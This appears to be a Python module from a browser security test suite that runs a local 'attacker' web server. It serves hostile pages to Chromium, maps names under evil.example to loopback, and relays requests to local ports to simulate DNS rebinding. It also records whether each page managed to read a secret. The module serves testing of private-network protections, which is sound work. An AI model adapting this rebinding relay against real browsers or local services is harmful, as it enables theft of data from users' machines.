"""The attacker's web server: hands out the hostile page, takes its reports, and rebinds its name.

Chromium asks it for every name below ``evil.example``, whatever the port. Under ``/attack`` it answers itself;
everything else on such a name it passes on, byte for byte, to the port that the address names. That is what a page sees
whose name has been pointed at loopback after it was loaded: the target is its own origin.
"""

from __future__ import annotations

import json
import socket
import threading
from collections.abc import Callable, Iterator
from contextlib import contextmanager, suppress
from pathlib import Path
from typing import Any

_PAGE = Path(__file__).with_name("page.html").read_text(encoding="utf-8")
_MOST_HEAD_BYTES = 65536
_CHUNK = 65536


class HostileServer:
    """Serves on a free loopback port until `close`."""

    def __init__(self) -> None:
        self._socket = socket.create_server(("127.0.0.1", 0), backlog=128)
        self.port: int = self._socket.getsockname()[1]
        self._plans: dict[str, dict[str, Any]] = {}
        self._unfinished: set[str] = set()
        self._changed = threading.Condition()
        self.reads: set[str] = set()
        """Ids of the attacks whose page has read the secret."""
        self.tried: set[str] = set()
        """Ids of the attacks that a page has carried out."""
        self.notes: dict[str, str] = {}
        threading.Thread(target=self._accept, daemon=True).start()

    @property
    def host_rules(self) -> str:
        """Chromium's rules that bring it here."""
        return f"MAP *.evil.example 127.0.0.1:{self.port},MAP evil.example 127.0.0.1"

    def plan(self, name: str, origin: str, attacks: list[dict[str, Any]], secret: str, *, is_public: bool) -> None:
        """Add a page.

        Parameters
        ----------
        name
            Of the page.
        origin
            Where it is loaded from.
        attacks
            What it does; each has ``id``, ``means``, ``url`` and what the means need.
        secret
            What it tries to read.
        is_public
            Whether Chromium is to take it for a page of the public Internet.
        """
        report = f"http://127.0.0.1:{self.port}/attack/report"
        self._plans[name] = {
            "name": name,
            "address": f"{origin}/attack/page/{name}",
            "attacks": attacks,
            "secret": secret,
            "report": report,
            "public": is_public,
        }
        self._unfinished.add(name)

    @property
    def address(self) -> str:
        """The page that opens all others."""
        return f"http://127.0.0.1:{self.port}/attack/all"

    def wait(self, seconds: float) -> set[str]:
        """Wait until all pages are through; return the names of those that are not."""
        with self._changed:
            self._changed.wait_for(lambda: not self._unfinished, seconds)
            return set(self._unfinished)

    def close(self) -> None:
        """Stop serving."""
        with suppress(OSError):
            self._socket.shutdown(socket.SHUT_RDWR)
        self._socket.close()

    def _accept(self) -> None:
        with suppress(OSError):
            while True:
                connection, _ = self._socket.accept()
                threading.Thread(target=self._serve, args=(connection,), daemon=True).start()

    def _serve(self, connection: socket.socket) -> None:
        with connection, suppress(OSError, ValueError):
            received = b""
            while b"\r\n\r\n" not in received and len(received) < _MOST_HEAD_BYTES:
                piece = connection.recv(_CHUNK)
                if not piece:
                    return
                received += piece
            head, _, body = received.partition(b"\r\n\r\n")
            lines = head.decode("latin-1").split("\r\n")
            method, path, _ = lines[0].split(" ", 2)
            headers = {name.lower(): value.strip() for name, _, value in (line.partition(":") for line in lines[1:])}
            if path.startswith("/attack/"):
                length = int(headers.get("content-length", 0))
                while len(body) < length:
                    body += connection.recv(_CHUNK)
                self._answer(connection, method, path, body)
            elif headers.get("host", "").partition(":")[0].endswith(".evil.example"):
                _relay(connection, received, int(headers["host"].rpartition(":")[2]))
            else:
                _send(connection, "404 Not Found", "", b"")

    def _answer(self, connection: socket.socket, method: str, path: str, body: bytes) -> None:
        kind, _, name = path.removeprefix("/attack/").partition("/")
        if kind == "all":
            addresses = [plan["address"] for plan in self._plans.values()]
            page = f"<!DOCTYPE html><script>for (const a of {json.dumps(addresses)}) open(a);</script>"
            _send(connection, "200 OK", "Content-Type: text/html\r\n", page.encode())
        elif kind == "page":
            plan = self._plans[name]
            policy = "Content-Security-Policy: treat-as-public-address\r\n" if plan["public"] else ""
            page = _PAGE.replace("PLAN", json.dumps(plan).replace("</", "<\\/"))
            _send(connection, "200 OK", f"Content-Type: text/html; charset=utf-8\r\n{policy}", page.encode())
        elif kind == "report" and method == "POST":
            self._take(json.loads(body))
            _send(connection, "204 No Content", "", b"")
        else:
            _send(connection, "404 Not Found", "", b"")

    def _take(self, report: dict[str, Any]) -> None:
        with self._changed:
            if report["kind"] == "finished":
                self._unfinished.discard(report["id"])
            elif report["kind"] == "tried":
                self.tried.add(report["id"])
                self.notes[report["id"]] = report.get("note", "")
            elif report["kind"] == "read":
                self.reads.add(report["id"])
            self._changed.notify_all()


@contextmanager
def hostile_server() -> Iterator[HostileServer]:
    """Run the attacker's server for the time of the block."""
    server = HostileServer()
    try:
        yield server
    finally:
        server.close()


def _send(connection: socket.socket, status: str, headers: str, body: bytes) -> None:
    head = f"HTTP/1.1 {status}\r\n{headers}Content-Length: {len(body)}\r\nConnection: close\r\n\r\n"
    connection.sendall(head.encode() + body)


def _relay(connection: socket.socket, received: bytes, port: int) -> None:
    """Pass a connection on to a port of loopback, until either end closes it."""
    with socket.create_connection(("127.0.0.1", port), timeout=30) as target:
        target.sendall(received)
        back = threading.Thread(target=_pump, args=(target, connection.sendall, connection), daemon=True)
        back.start()
        _pump(connection, target.sendall, target)
        back.join(30)


def _pump(source: socket.socket, send: Callable[[bytes], None], sink: socket.socket) -> None:
    with suppress(OSError):
        while piece := source.recv(_CHUNK):
            send(piece)
    with suppress(OSError):
        sink.shutdown(socket.SHUT_WR)
